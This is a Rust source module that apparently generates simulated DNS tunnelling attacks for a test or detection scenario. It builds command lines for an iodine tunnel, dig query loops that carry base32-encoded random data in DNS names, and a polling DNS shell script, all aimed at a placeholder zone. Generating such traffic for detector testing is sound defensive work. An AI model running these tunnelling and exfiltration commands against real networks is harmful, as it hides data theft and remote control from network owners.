//! Data in DNS names: tunnels with an address of their own, files carried out, a shell that polls.

use std::net::Ipv4Addr;

use fastrand::Rng;

use super::{Attack, Place, Recipe, way};
use crate::site::Site;

pub(super) const IODINE: Recipe =
    Recipe { kind: "dnstunnel", tool: "iodine", alone: 6, may_come_from_outside: false, make: iodine };
pub(super) const DIG: Recipe =
    Recipe { kind: "dnstunnel", tool: "dig", alone: 3, may_come_from_outside: false, make: dig };
pub(super) const SHELL: Recipe =
    Recipe { kind: "dnstunnel", tool: "script", alone: 3, may_come_from_outside: false, make: shell };

/// The zone; the scenario's DNS server sends its queries on to the tunnel's end.
pub(crate) const ZONE: &str = "t.example.org";

/// Asked by the site's resolver, or the tunnel's end itself.
fn server(rng: &mut Rng, site: &Site) -> Ipv4Addr {
    if rng.bool() { site.servers[3] } else { site.servers[4] }
}

fn iodine(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let server = server(rng, site);
    let kind = way(&["NULL", "TXT", "CNAME", "MX", "SRV", "A"], number);
    let (name_length, limit) = (rng.u32(150..255), rng.u32(40..60));
    // iodine needs some seconds to find out what gets through; then something goes through the tunnel.
    let inside = match number % 3 {
        0 => "ping -q -i 0.2 -s 300 -W 1 10.99.0.1 >/dev/null; sleep 1".to_owned(),
        1 => "curl -s -m 20 -o /dev/null http://10.99.0.1/f150000; sleep 1".to_owned(),
        _ => "ping -q -c 3 10.99.0.1 >/dev/null; sleep 2; curl -s -m 9 -o /dev/null http://10.99.0.1/f8000; sleep 2"
            .to_owned(),
    };
    let line = format!(
        "iodine -f -r -T {kind} -M {name_length} -P secret {server} {ZONE} & for n in $(seq 60); do {inside}; done"
    );
    let end = format!("exec iodined -f -c -l {} -P secret 10.99.0.1 {ZONE}", site.servers[4]);
    Attack { server: Some((Place::Wan, end)), ..Attack::new(&IODINE, site, &server, limit, line) }
}

fn dig(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let server = server(rng, site);
    let kind = way(&["A", "TXT", "MX"], number);
    let (bytes, labels) = (rng.u32(20..38), rng.u32(1..4));
    let pause = rng.choice(["0.02", "0.1", "0.3", "1"]).unwrap_or("0.1");
    let label = format!("$(head -c {bytes} /dev/urandom | base32 | tr -d '=\\n')");
    let name = vec![label; labels as usize].join(".");
    let line = format!(
        "for n in $(seq 2000); do dig +short +tries=1 +time=1 @{server} {kind} {name}.$n.{ZONE} >/dev/null; \
         sleep {pause}; done"
    );
    Attack { server: end(site), ..Attack::new(&DIG, site, &server, rng.u32(30..60), line) }
}

fn shell(rng: &mut Rng, site: &Site, number: u32) -> Attack {
    let server = server(rng, site);
    let limit = rng.u32(35..60);
    let interval = rng.choice(["0.2", "0.5", "1"]).unwrap_or("0.5");
    let kinds = way(&["16,5,15", "16", "1,28"], number);
    let line = format!("exec python3 $S/dnsshell.py {server} {ZONE} {kinds} {interval} {limit}");
    Attack { server: end(site), ..Attack::new(&SHELL, site, &server, limit + 3, line) }
}

fn end(site: &Site) -> Option<(Place, String)> {
    Some((Place::Wan, format!("exec python3 $S/dnszone.py {}", site.servers[4])))
}
